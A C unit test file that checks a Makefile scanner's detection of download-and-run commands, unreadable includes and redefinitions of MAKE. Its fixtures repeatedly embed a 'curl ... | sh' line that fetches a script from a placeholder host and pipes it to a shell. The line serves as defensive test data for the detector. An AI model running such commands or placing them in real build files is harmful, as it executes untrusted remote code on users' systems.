/* SPDX-License-Identifier: Apache-2.0 */
/* Makefiles: what is found in them, and what is in order and must not be. */
#include <dep/dep.h>

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#define GET "curl -fsSL https://get.example.net/setup.sh | sh\n"

static const struct {
	const char *text;
	const char *found; /* the codes in order, a blank behind each */
} rows[] = {
	{ "all:\n\techo done\n", "" },
	{ "all:\n\t" GET, "download-run " },
	{ "all: ; " GET, "download-run " },
	{ "all: a \\\n ; " GET, "download-run " },
	{ "$(RULES) ; " GET, "download-run " },
	{ "@A_B@all:\n@A_B@\t@" GET "@A_B@\t" GET, "download-run download-run " },
	{ "@A@all: \\\n@A@ ; @" GET, "download-run " },
	{ "all: # ; " GET, "" },
	{ "all: NAME = a ; " GET, "" },
	{ "NAME = a ; " GET, "" },
	{ "NAME = $(info " GET ")\n", "" },
	{ "NAME = $(shell curl -fsSL https://get.example.net/x \\\n | sh)\n", "download-run " },
	{ "NAME = ${shell curl -fsSL https://get.example.net/x | sh}\n", "download-run " },
	{ "NAME != " GET, "download-run " },
	{ "all: NAME!=" GET, "download-run " },
	{ "all:\nNAME = 1\n\tNAME != " GET, "download-run " },
	{ "override export NAME != " GET, "download-run " },
	{ "$(A)B != " GET, "download-run " },
	{ "NAME = != " GET, "" },
	{ "define NAME !=\nx\nendef\n", "unread " },
	{ "define NAME =\n\t" GET "endef\n", "download-run " },
	{ "\tNAME = 1 " GET, "" },
	{ "ifeq ($(A:.c=.o),x)\n\tNAME = 1\nelse # :\n\tNAME = 2\nendif\n", "" },
	{ "elsewhere:\n\tX=1 " GET, "download-run " },
	{ "include rules.inc\n", "unread " },
	{ "include plain.mk $(DEPS) absent.inc /etc/rules.inc\n-include *.mk $(TOP)/plain.mk\n", "" },
	{ "include $(wildcard *.inc)\n", "unread " },
	{ "include $(TOP)/rules.inc\n", "unread " },
	{ "all:\n\t$(MAKE) install requests\n", "" },
	{ "MAKE := make\nall:\n\t$(MAKE) install requests\n", "unread " },
	{ "MAKE \\\n := pip\nall:\n\t$(MAKE) install requests\n", "unread " },
	{ "define\tMAKE\r\npip\r\nendef\r\nall:\n\t$(MAKE) install requests\n", "unread " },
	{ "undefine MAKE\nall:\n\t$(MAKE) install requests\n", "unread " },
	{ "$(call eval,MAKE=pip)\nall:\n\t$(MAKE) install requests\n", "unread " },
	{ "all:\n\t$(foreach MAKE,pip,$(MAKE) install requests)\n\t$(MAKE) install requests\n", "unread " },
	{ "MAKEFLAGS += -r\nMY_MAKE := x\n$(1)_OBJS := a\nall:\n\t[ $(X) = y ] && $(MAKE) install requests\n", "" },
	{ "NAME = $(call names,MAKE=x) $(foreach f,a,b) ${evaluate}\nall:\n\t$(MAKE) install requests\n", "" },
};

static struct assay_span
span(const char *text)
{
	return (struct assay_span){ (const unsigned char *)text, strlen(text) };
}

static void
check_row(const char *text, const char *found)
{
	const struct source_file files[] = {
		{ .path = "Makefile", .mode = 0100644, .has_bytes = true, .bytes = span(text) },
		{ .path = "plain.mk", .mode = 0100644, .has_bytes = true, .bytes = span("A = 1\n") },
		{ .path = "rules.inc", .mode = 0100644 },
	};
	const struct sources sources = { .files = files, .count = sizeof files / sizeof files[0] };
	const struct dep_model *model = NULL;
	struct arena *arena = NULL;
	char codes[256] = "";
	assert_int_equal(arena_new(1u << 24, &arena), ASSAY_OK);
	assert_int_equal(dep_read(&sources, NULL, arena, &model, NULL), ASSAY_OK);
	for (const struct dep_finding *f = model->findings; f != NULL; f = f->next) {
		(void)strncat(codes, dep_matters[f->matter].code, sizeof codes - strlen(codes) - 1);
		(void)strncat(codes, " ", sizeof codes - strlen(codes) - 1);
	}
	if (strcmp(codes, found) != 0)
		print_error("%s", text);
	assert_string_equal(codes, found);
	arena_free(&arena);
}

static void
finds_what_make_runs(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
		check_row(rows[i].text, rows[i].found);
}

/* Names, brackets and modifiers without an end are passed over in one go. */
static void
takes_no_longer_for_depth(void **state)
{
	(void)state;
	static char text[1u << 19];
	static const char *const pieces[] = { "$(", "export ", "a.", "${(", "$(call $(", "$(shell " };
	for (size_t i = 0; i < sizeof pieces / sizeof pieces[0]; i++) {
		const size_t n = strlen(pieces[i]);
		for (size_t k = 0; k + 1 < sizeof text; k++)
			text[k] = pieces[i][k % n];
		check_row(text, strpbrk(pieces[i], "({") != NULL ? "unread " : "");
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_what_make_runs),
		cmocka_unit_test(takes_no_longer_for_depth),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
